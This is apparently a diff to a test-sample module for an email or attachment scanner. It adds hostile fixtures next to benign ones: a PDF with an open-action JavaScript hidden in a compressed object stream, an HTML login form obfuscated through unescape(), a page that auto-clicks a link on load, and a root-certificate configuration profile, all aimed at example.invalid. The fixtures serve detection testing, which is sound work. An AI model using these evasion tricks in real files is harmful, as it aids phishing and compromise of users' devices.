@@ -16,6 +16,8 @@ from __future__ import annotations
 
 import base64
 import struct
+import urllib.parse
+import zlib
 from dataclasses import dataclass
 from email.message import EmailMessage
 from email.utils import make_msgid
@@ -382,6 +384,23 @@ def pdf_embedded_text() -> bytes:
     return pdf_with_embedded("notes.txt", b"Parking is behind the building.\n")
 
 
+def pdf_hidden_in_object_stream() -> bytes:
+    """PDF 1.5 style: the page's open action and its JavaScript are packed in a compressed
+    object stream, where a plain byte scan sees neither name."""
+    packed = b"7 0 8 60 << /Type /Action /S /JavaScript /JS (app.launchURL\\('https://example.invalid/'\\);) >> " \
+             b"<< /AA << /O 7 0 R >> >>"
+    stream = zlib.compress(packed)
+    return pdf(b"<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
+               + stream + b"\nendstream")
+
+
+def pdf_compressed_page_text() -> bytes:
+    """An ordinary compressed PDF object stream: fonts and page settings only."""
+    stream = zlib.compress(b"7 0 << /Type /FontDescriptor /FontName /Helvetica /Flags 32 >>")
+    return pdf(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
+               + stream + b"\nendstream")
+
+
 def pdf_form_submit() -> bytes:
     field = (b"<< /FT /Tx /T (password) /Ff 8192 /Rect [72 600 300 620] /P 3 0 R "
              b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.invalid/collect.php) >> /Flags 4 >> >>")
@@ -438,6 +457,9 @@ NEWSLETTER = page(
 META_REFRESH = page("<p>Loading...</p>", head='<meta http-equiv="refresh" content="0; url=https://example.invalid/o365/">')
 META_CHARSET = page("<p>Appointment reminder</p>", head='<meta http-equiv="Content-Type" content="text/html; charset=utf-8">')
 SCRIPT_REDIRECT = page("<script>window.location.href = \"https://example.invalid/o365/\";</script>")
+HIDDEN_LOGIN = page("<script>document.write(unescape('" + urllib.parse.quote(LOGIN_FORM) + "'));</script>")
+AUTO_CLICK = page('<a id="go" href="https://example.invalid/index.html">Open</a>',
+                  ).replace("<body>", "<body onload=\"document.getElementById('go').click();\">")
 SEARCH_MS = page('<a href="search-ms:query=invoice&amp;crumb=location:\\\\example.invalid@SSL\\DavWWWRoot\\share">Open invoice</a>')
 
 # --------------------------------------------------------------------------- containers and shortcuts
@@ -478,6 +500,18 @@ LIBRARY_MS = (
     '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
     "<searchConnectorDescription><simpleLocation><url>\\\\example.invalid\\share</url></simpleLocation>"
     "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n"
+)
+MAIL_PROFILE = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
+    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadContent</key><array>'
+    "<dict><key>EmailAddress</key><string>frontdesk@example.invalid</string><key>PayloadType</key>"
+    "<string>com.apple.mail.managed</string></dict></array><key>PayloadType</key><string>Configuration</string>"
+    "</dict></plist>\n"
+)
+ROOT_CA_PROFILE = MAIL_PROFILE.replace("com.apple.mail.managed", "com.apple.security.root")
+PREFERENCES_PLIST = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>Theme</key><string>Light</string>'
+    "<key>TrustedServices</key><array><string>com.apple.security.root</string></array></dict></plist>\n"
 )
 LIBRARY_XML = ('<?xml version="1.0" encoding="UTF-8"?>\n<library><book><title>Coping with anxiety</title>'
                "<shelf>B2</shelf></book></library>\n")
@@ -588,6 +622,10 @@ SAMPLES: dict[str, tuple[Sample, Sample]] = {
                               Sample("links.txt", TXT, text(LINKS_TEXT))),
     "INTERNET_SHORTCUT_FILE_TARGET": (Sample("invoice.url", BIN, text(URL_FILE_TARGET)),
                                       Sample("meeting.ics", "text/calendar", lambda: ICS_TEXT)),
+    "APPLE_CONFIGURATION_PROFILE": (Sample("mail-setup.mobileconfig", BIN, text(MAIL_PROFILE), Action.TAG),
+                                    Sample("preferences.plist", "application/xml", text(PREFERENCES_PLIST))),
+    "APPLE_PROFILE_DEVICE_CONTROL": (Sample("wifi.mobileconfig", BIN, text(ROOT_CA_PROFILE)),
+                                     Sample("preferences.plist", "application/xml", text(PREFERENCES_PLIST))),
     "WINDOWS_LIBRARY_MS": (Sample("documents.library-ms", BIN, text(LIBRARY_MS)),
                            Sample("books.xml", "application/xml", text(LIBRARY_XML))),
 }
@@ -603,6 +641,14 @@ CONTEXT_SAMPLES: dict[str, tuple[Sample, str | None]] = {
                                                        body=True), None),
     "newsletter that redirects": (Sample("", HTML, text(META_REFRESH), Action.ACCEPT, body=True), "HTML_META_REFRESH"),
     "smuggling script in the body": (Sample("", HTML, text(HTML_SMUGGLING), Action.TAG, body=True), "HTML_SMUGGLING"),
+    "PDF actions hidden in a compressed object stream": (Sample("invoice.pdf", PDF, pdf_hidden_in_object_stream),
+                                                         "PDF_JAVASCRIPT_ON_OPEN"),
+    "ordinary compressed PDF object stream": (Sample("statement.pdf", PDF, pdf_compressed_page_text, Action.ACCEPT),
+                                              None),
+    "login page hidden behind unescape()": (Sample("payment.html", HTML, text(HIDDEN_LOGIN)),
+                                            "HTML_CREDENTIAL_FORM_OFFSITE"),
+    "page that clicks its own link on load": (Sample("site.html", HTML, text(AUTO_CLICK), Action.TAG),
+                                              "HTML_SCRIPT_REDIRECT"),
     "document-level PDF form script": (Sample("form.pdf", PDF, pdf_javascript_name_tree, Action.ACCEPT), "PDF_JAVASCRIPT"),
 }
 
